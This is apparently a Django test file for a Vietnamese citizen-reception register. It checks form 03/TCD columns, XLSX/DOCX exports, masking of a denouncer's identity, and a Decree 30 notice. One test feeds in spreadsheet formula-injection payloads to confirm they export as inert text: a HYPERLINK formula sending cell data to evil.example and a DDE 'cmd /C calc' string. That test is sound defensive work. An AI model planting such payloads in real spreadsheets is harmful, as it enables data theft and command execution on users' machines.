"""The reception register in the 13 columns of form 03/TCD, its XLSX and DOCX exports read back, the masking of
a denouncer, and the notice of conclusions of a head's session (Decree 30 format, read back)."""

from __future__ import annotations

import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.utils.translation import gettext as _
from docx import Document
from openpyxl import load_workbook

from danvan.audit.models import AuditEvent
from danvan.cases.models import Kind, Status
from danvan.core.errors import DomainError
from danvan.documents.checks import assert_decree30_format
from danvan.reception.models import ReceptionKind, ReceptionSession, VisitResult
from danvan.reception.register import COLUMNS, register_rows
from danvan.reception.services.notice import session_notice_issue
from danvan.reception.services.visits import PersonData, VisitData, visit_record
from danvan.reception.tests.conftest import VALID_ID

VN = ZoneInfo("Asia/Ho_Chi_Minh")
DAY = dt.date(2026, 11, 12)

EXPECTED_COLUMNS = (
    "STT",
    "Ngày tiếp",
    "Họ tên, địa chỉ",
    "Số CCCD/Hộ chiếu",
    "Nội dung vụ việc",
    "Phân loại đơn/vụ việc",
    "Số người cùng nội dung",
    "Cơ quan đã giải quyết",
    "Thuộc thẩm quyền",
    "Hướng dẫn, trả lời (cơ quan, số văn bản)",
    "Chuyển đơn (cơ quan tiếp nhận, số văn bản)",
    "Theo dõi kết quả giải quyết",
    "Ghi chú",
)


@pytest.fixture(autouse=True)
def _now():
    with time_machine.travel(dt.datetime(2026, 11, 12, 15, 0, tzinfo=VN), tick=False):
        yield


@pytest.fixture
def day(world, place_a, head_a, personas):
    """A chairman's reception day: a crowd (new petition), feedback guided elsewhere, a denunciation."""
    session = ReceptionSession.objects.create(
        organization=world.org_a,
        place=place_a,
        kind=ReceptionKind.PERIODIC,
        held_on=DAY,
        head=head_a,
        position="commune_chairman",
        received_by=head_a,
        created_by=head_a,
    )
    crowd = visit_record(
        actor=head_a,
        session=session,
        data=VisitData(
            kind="complaint",
            result="new_petition",
            people_count=7,
            within_competence=True,
            content_summary="Khiếu nại mức bồi thường khi thu hồi đất làm đường liên xã.",
            complainants=[PersonData("Nguyễn Văn An", VALID_ID, "Tổ 7, phường Tân Phong"), PersonData("Trần Thị Bình")],
            representative_names=["Nguyễn Văn An", "Trần Thị Bình"],
            previous_handling="UBND phường (lần đầu)",
        ),
    )
    guided = visit_record(
        actor=head_a,
        session=session,
        data=VisitData(
            kind="feedback",
            result="guided",
            content_summary="Phản ánh nước thải của cơ sở chế biến gỗ.",
            complainants=[PersonData("Lê Thị Cúc", "", "Tổ 2")],
            guided_to="Sở Nông nghiệp và Môi trường",
            guidance_reference="12/UBND-TCD",
        ),
    )
    denunciation = visit_record(
        actor=head_a,
        session=session,
        data=VisitData(
            kind="denunciation",
            result="new_petition",
            subject="Tố cáo cán bộ địa chính",
            content_summary="Tố cáo công chức địa chính nhận tiền khi cấp giấy chứng nhận.",
            complainants=[PersonData("Phạm Văn Tố", "", "Tổ 5, phường Tân Phong", "0977000111")],
        ),
    )
    return session, crowd, guided, denunciation


def test_the_register_has_the_13_columns_of_form_03_tcd(world, day, head_a):
    assert COLUMNS == EXPECTED_COLUMNS
    rows = register_rows(user=head_a, organization=world.org_a, start=DAY, end=DAY)
    assert [r.cells() for r in rows[:2]] == [
        (
            1,
            "12/11/2026",
            "Nguyễn Văn An, Tổ 7, phường Tân Phong; Trần Thị Bình",
            VALID_ID,
            "Khiếu nại mức bồi thường khi thu hồi đất làm đường liên xã.",
            str(Kind.COMPLAINT.label),
            7,
            "UBND phường (lần đầu)",
            "x",
            "",
            "",
            f"{_('Registered as')} {day[1].petition.tracking_code}: {Status.RECEIVED.label}",
            _("Representatives: %(names)s") % {"names": "Nguyễn Văn An, Trần Thị Bình"},
        ),
        (
            2,
            "12/11/2026",
            "Lê Thị Cúc, Tổ 2",
            "",
            "Phản ánh nước thải của cơ sở chế biến gỗ.",
            str(Kind.FEEDBACK.label),
            1,
            "",
            "",
            "Sở Nông nghiệp và Môi trường, 12/UBND-TCD",
            "",
            str(VisitResult.GUIDED.label),
            "",
        ),
    ]
    # The head sees the denouncer; the reading is audited.
    assert rows[2].name_address == "Phạm Văn Tố, Tổ 5, phường Tân Phong"
    assert not rows[2].masked
    event = AuditEvent.objects.get(action="reception.register_identity_viewed")
    assert event.data == {"visits": [day[3].pk]}


def test_a_denouncer_is_masked_for_everyone_else(world, day, personas):
    rows = register_rows(user=personas["province_inspector"], organization=world.org_a, start=DAY, end=DAY)
    assert rows[2].masked
    assert rows[2].personal_ids == ""
    assert "Phạm Văn Tố" not in rows[2].name_address
    assert not rows[0].masked
    assert rows[0].personal_ids == VALID_ID
    assert not AuditEvent.objects.filter(action="reception.register_identity_viewed").exists()


def test_exports_read_back(world, day, as_persona):
    query = f"?organization={world.org_a.pk}&start=2026-11-01&end=2026-11-30"
    inspector = as_persona("province_inspector")
    xlsx = inspector.get(f"/reception/register.xlsx{query}")
    assert xlsx.status_code == 200
    assert xlsx["Content-Disposition"].endswith('2026-11-01-2026-11-30.xlsx"')
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "SỔ TIẾP CÔNG DÂN — ỦY BAN NHÂN DÂN PHƯỜNG TÂN PHONG"
    assert tuple(values[2]) == EXPECTED_COLUMNS
    assert values[3] == [f"({n})" for n in range(1, 14)]
    assert values[4][:7] == [
        1,
        "12/11/2026",
        "Nguyễn Văn An, Tổ 7, phường Tân Phong; Trần Thị Bình",
        VALID_ID,
        "Khiếu nại mức bồi thường khi thu hồi đất làm đường liên xã.",
        "khiếu nại",
        7,
    ]
    assert "Phạm Văn Tố" not in str(values)
    assert "0977000111" not in str(values)

    docx = inspector.get(f"/reception/register.docx{query}")
    table = Document(io.BytesIO(docx.content)).tables[0]
    assert tuple(c.text for c in table.rows[0].cells) == EXPECTED_COLUMNS
    assert [c.text for c in table.rows[3].cells][:3] == ["2", "12/11/2026", "Lê Thị Cúc, Tổ 2"]
    assert len(table.rows) == 2 + 3
    assert AuditEvent.objects.filter(action="reception.register_exported").count() == 2


def test_the_notice_of_conclusions_reads_back_in_decree_30_format(day, head_a):
    session, crowd, _guided, _denunciation = day
    session = session_notice_issue(
        actor=head_a,
        session=session,
        conclusions="Giao Công an phường bảo đảm an ninh trật tự.",
        directions={crowd.pk: "Giao công chức địa chính xác minh, báo cáo trước ngày 30/11/2026"},
    )
    assert session.notice_number == "01/TB-UBND"
    with session.notice_file.open("rb") as handle:
        content = handle.read()
    assert assert_decree30_format(content) == []
    document = Document(io.BytesIO(content))
    text = "\n".join(p.text for p in document.paragraphs)
    header = "\n".join(c.text for c in document.tables[0].rows[0].cells)
    assert "UBND TỈNH LAI CHÂU" in header
    assert "PHƯỜNG TÂN PHONG" in header
    assert "Kết luận của Chủ tịch Ủy ban nhân dân phường Tân Phong tại buổi tiếp công dân ngày 12/11/2026" in text
    assert "Ngày 12 tháng 11 năm 2026, tại Phòng tiếp công dân (Số 1 đường Trần Hưng Đạo), ông (bà) Lò Văn Minh" in text
    assert "đã tiếp 3 lượt công dân với 9 người, trong đó có 1 đoàn đông người." in text
    assert "đoàn 7 công dân do ông (bà) Nguyễn Văn An, Trần Thị Bình đại diện" in text
    assert "Ý kiến chỉ đạo: Giao công chức địa chính xác minh, báo cáo trước ngày 30/11/2026." in text
    assert "Phạm Văn Tố" not in text
    assert "người tố cáo (thông tin được giữ bí mật theo Điều 47 Luật Tố cáo)" in text
    with pytest.raises(DomainError) as caught:
        session_notice_issue(actor=head_a, session=session, conclusions="Lần hai.", directions={})
    assert caught.value.code == "notice_already_issued"


def test_only_the_head_issues_the_notice_through_the_page(world, day, head_a, as_persona, client):
    session = day[0]
    refused = as_persona("officer_same").post(f"/reception/sessions/{session.pk}/notice/", {"conclusions": "Kết luận."})
    assert refused.status_code == 403
    from danvan.testing import login_client

    login_client(client, head_a)
    page = client.get(f"/reception/sessions/{session.pk}/")
    assert "notice_form" in page.context
    response = client.post(
        f"/reception/sessions/{session.pk}/notice/",
        {"conclusions": "Giao các cơ quan chuyên môn giải quyết.", f"direction_{day[1].pk}": "Xác minh trong 10 ngày."},
    )
    assert response.status_code == 302
    download = client.get(f"/reception/sessions/{session.pk}/notice.docx")
    assert download.status_code == 200
    assert assert_decree30_format(download.content) == []


def test_the_register_xlsx_keeps_typed_formulas_as_text(world, place_a, head_a, as_persona):
    session = ReceptionSession.objects.create(
        organization=world.org_a,
        place=place_a,
        kind=ReceptionKind.PERIODIC,
        held_on=DAY,
        head=head_a,
        position="commune_chairman",
        received_by=head_a,
        created_by=head_a,
    )
    visit_record(
        actor=head_a,
        session=session,
        data=VisitData(
            kind="feedback",
            result="guided",
            content_summary='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
            complainants=[PersonData("@SUM(1+1)*cmd|' /C calc'!A0", "", "+1+2")],
            guided_to="-2+3",
            guidance_reference="12/UBND-TCD",
        ),
    )
    query = f"?organization={world.org_a.pk}&start=2026-11-01&end=2026-11-30"
    xlsx = as_persona("province_inspector").get(f"/reception/register.xlsx{query}")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    typed = [cell for row in sheet.iter_rows(min_row=5) for cell in row if isinstance(cell.value, str)]
    summary = next(cell for cell in typed if "HYPERLINK" in cell.value)
    assert summary.value == '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    assert summary.data_type == "s"
    risky = [cell for cell in typed if cell.value[:1] in ("=", "+", "-", "@")]
    assert len(risky) >= 2
    assert all(cell.data_type == "s" for cell in risky)


def test_running_numbers_follow_the_dates_not_the_typing_order(world, place_a, head_a):
    def visit_on(day: dt.date, summary: str):
        session = ReceptionSession.objects.create(
            organization=world.org_a,
            place=place_a,
            kind=ReceptionKind.REGULAR,
            held_on=day,
            received_by=head_a,
            created_by=head_a,
        )
        return visit_record(
            actor=head_a,
            session=session,
            data=VisitData(
                kind="feedback",
                result="guided",
                content_summary=summary,
                complainants=[PersonData("Lê Thị Cúc", "", "Tổ 2")],
                guided_to="UBND tỉnh",
            ),
        )

    visit_on(dt.date(2026, 11, 10), "Phản ánh thứ ba")
    visit_on(dt.date(2026, 11, 12), "Phản ánh thứ năm")
    late = visit_on(dt.date(2026, 11, 11), "Phản ánh thứ tư, nhập muộn")  # typed in last, happened in between
    assert late.serial == 3  # the stored serial keeps the typing order
    rows = register_rows(user=head_a, organization=world.org_a, start=dt.date(2026, 11, 1), end=dt.date(2026, 11, 30))
    assert [(r.serial, r.summary) for r in rows] == [
        (1, "Phản ánh thứ ba"),
        (2, "Phản ánh thứ tư, nhập muộn"),
        (3, "Phản ánh thứ năm"),
    ]
    # An extract from the middle of the year continues the year's numbering.
    rows = register_rows(user=head_a, organization=world.org_a, start=dt.date(2026, 11, 11), end=dt.date(2026, 11, 30))
    assert [(r.serial, r.summary) for r in rows] == [(2, "Phản ánh thứ tư, nhập muộn"), (3, "Phản ánh thứ năm")]
